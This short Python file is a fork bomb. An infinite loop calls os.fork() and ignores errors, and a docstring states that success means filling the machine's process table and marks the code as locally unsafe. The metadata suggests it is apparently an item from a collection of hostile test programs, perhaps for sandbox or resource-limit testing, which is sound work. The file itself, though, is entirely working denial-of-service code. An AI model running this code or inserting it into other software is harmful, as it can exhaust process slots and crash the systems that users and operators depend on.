"""
Forks without end, every child too.

Success: the process table of the machine fills.
Ends: timeout
Needs: processes
Local: unsafe
"""
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
